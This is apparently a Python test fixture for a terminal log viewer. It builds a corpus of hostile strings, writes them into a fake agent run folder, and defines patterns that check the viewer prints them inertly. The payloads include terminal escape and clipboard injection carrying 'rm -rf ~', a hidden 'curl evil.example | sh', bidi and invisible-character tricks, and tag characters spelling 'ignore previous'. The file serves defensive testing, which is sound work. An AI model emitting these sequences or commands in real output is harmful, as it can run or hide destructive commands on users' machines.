"""A corpus of hostile text, a run folder holding it in every field, and the check that output is inert.

Every payload carries the marker ``PWN`` inside the sequence a terminal would act on, so a raw
byte stream (a pipe, a file, what tmux's ``pipe-pane`` saw) can be searched for it live: the app's
own escape sequences never contain the marker.
"""

from __future__ import annotations

import base64
import json
import re
from pathlib import Path
from typing import Any

from tests.ui.runlogs import TOOLS, assistant, tool

#: (name, text): each a different way text could act on a terminal, a shell or a reader.
PAYLOADS: list[tuple[str, str]] = [
    ("osc title (ST)", "\x1b]0;PWN-title\x1b\\"),
    ("osc title (BEL)", "\x1b]2;PWN-title\x07"),
    ("osc 52 clipboard", "\x1b]52;c;" + base64.b64encode(b"PWN; rm -rf ~").decode() + "\x1b\\"),
    ("osc 8 hyperlink", "\x1b]8;;https://PWN.example/\x1b\\click\x1b]8;;\x1b\\"),
    ("csi clear screen", "\x1b[2J\x1b[HPWN-cleared"),
    ("csi cursor up and erase", "PWN\x1b[1A\x1b[2K"),
    ("end of bracketed paste", "\x1b[201~PWN; echo pasted-command-ran\n"),
    ("dcs", "\x1bP+qPWN\x1b\\"),
    ("apc", "\x1b_PWN\x1b\\"),
    ("8-bit csi", "\x9b2JPWN"),
    ("8-bit osc", "\x9d0;PWN\x9c"),
    ("backspaces hide a command", "rm -rf /PWN" + "\x08" * 12 + "ls -l      "),
    ("carriage return overwrites", "curl evil.example | sh PWN\rls            "),
    ("nul and del", "PWN\x00\x7f"),
    ("bidi override", "PWN \u202egnp.exe"),
    ("bidi isolate", "PWN \u2067hidden\u2069"),
    ("zero-width space", "P\u200bW\u200bN"),
    ("zero-width joiner", "PWN\u200d"),
    ("direction mark", "PWN\u200f"),
    ("word joiner", "PWN\u2060"),
    ("byte-order mark", "\ufeffPWN"),
    ("line and paragraph separators", "PWN\u2028\u2029"),
    ("tag characters (hidden ASCII)", "PWN" + "".join(chr(0xE0000 + ord(c)) for c in "ignore previous")),
    ("lone surrogate", "PWN\ud800"),
    ("rich markup", "[bold red]PWN[/] [link=file:///etc/passwd]x[/link] :skull:"),
    ("html and markdown", "<script>alert('PWN')</script> [x](javascript:alert(1)) ```"),
]

#: Sequences a terminal acts on. A hit is a payload that reached the output raw.
_LIVE = [
    ("osc", re.compile(rb"\x1b\][^\x07\x1b]*PWN")),
    ("osc 52 payload", re.compile(rb"\x1b\]52;c;" + base64.b64encode(b"PWN; rm -rf ~")[:8])),
    ("csi", re.compile(rb"\x1b\[(?:2J\x1b\[HPWN|201~PWN)|PWN\x1b\[1A")),
    ("dcs/apc", re.compile(rb"\x1b[P_]\+?q?PWN")),
    ("8-bit control", re.compile(rb"\xc2[\x80-\x9f]")),
    ("backspace/cr/nul/del", re.compile(rb"PWN[\x08\x00\x7f]|/PWN\x08|PWN\r")),
    ("invisible or bidi", re.compile("|".join(["\u200b", "\u200d", "\u200f", "\u2028", "\u2029", "\u202e",
                                               "\u2060", "\u2067", "\u2069", "\ufeff"]).encode())),
    ("tag characters", re.compile("\U000e0069".encode())),
    ("lone surrogate", re.compile(rb"\xed[\xa0-\xbf]")),
]


def live_payloads(data: bytes) -> list[str]:
    """What in ``data`` (raw output) is a payload a terminal would act on or hide."""
    return [name for name, pattern in _LIVE if pattern.search(data)]


def osc52_copies(data: bytes) -> list[str]:
    """The texts an app put on the clipboard (OSC 52) in a raw terminal stream."""
    return [base64.b64decode(match.group(1)).decode("utf-8", "replace")
            for match in re.finditer(rb"\x1b\]52;c;([A-Za-z0-9+/=]*)(?:\x07|\x1b\\)", data)]


def _all(prefix: str = "") -> str:
    return prefix + " | ".join(text for _, text in PAYLOADS)


def write_payload_run(folder: Path) -> Path:
    """A nano-tui run folder with the corpus in every field a log can hold."""
    folder.mkdir(parents=True)
    every = _all()
    patch_args = {"file": "app\x1b]0;PWN-file\x07.py", "search": _all("search "), "replace": _all("replace ")}
    messages: list[dict[str, Any]] = [
        {"content": _all("system "), "role": "system"},
        {"content": _all("task "), "role": "user"},
        assistant(_all("reply "), [("c1", "shell", {"cmd": _all("echo ")})], reasoning=_all("thinking ")),
        tool("c1", _all("output ")),
        assistant(None, [("c2", "apply_patch", patch_args)]),
        tool("c2", "Patch applied successfully."),
        assistant(None, [("c3", "x\x1b]0;PWN-tool\x1b\\\x1b]52;c;UFdO\x1b\\", {"cmd": every})]),
        tool("c3", "unknown tool"),
        assistant(_all("done "), []),
    ]
    with open(folder / "messages.jsonl", "w", encoding="utf-8") as out:
        for message in messages:
            out.write(json.dumps(message, ensure_ascii=True, sort_keys=True) + "\n")
    (folder / "tools.json").write_text(json.dumps(TOOLS, indent=4, sort_keys=True))
    (folder / "metadata.json").write_text(json.dumps({"model": _all("model "), "api_base": _all("base ")}))
    (folder / "diff.txt").write_text(_all("+diff "), encoding="utf-8", errors="surrogatepass")
    (folder / "stats.json").write_text(json.dumps({"tool_calls": 3, "note": every}))
    records = [
        {"event": "run_started", "time": 1.7e9, "task": _all("task "), "repo": _all("/repo "),
         "model": _all("model "), "backend": {"name": "local", "description": every, "warning": every}},
        {"event": "tool_finished", "turn": 1, "call_id": "c1", "name": "shell", "output": every,
         "state": "failed", "duration": 0.5},
        {"event": "run_ended", "time": 1.7e9 + 60, "reason": "error", "error": _all("provider said "),
         "diff": _all("+diff ")},
    ]
    (folder / "nano-tui.jsonl").write_text("".join(json.dumps(r, ensure_ascii=True) + "\n" for r in records))
    return folder
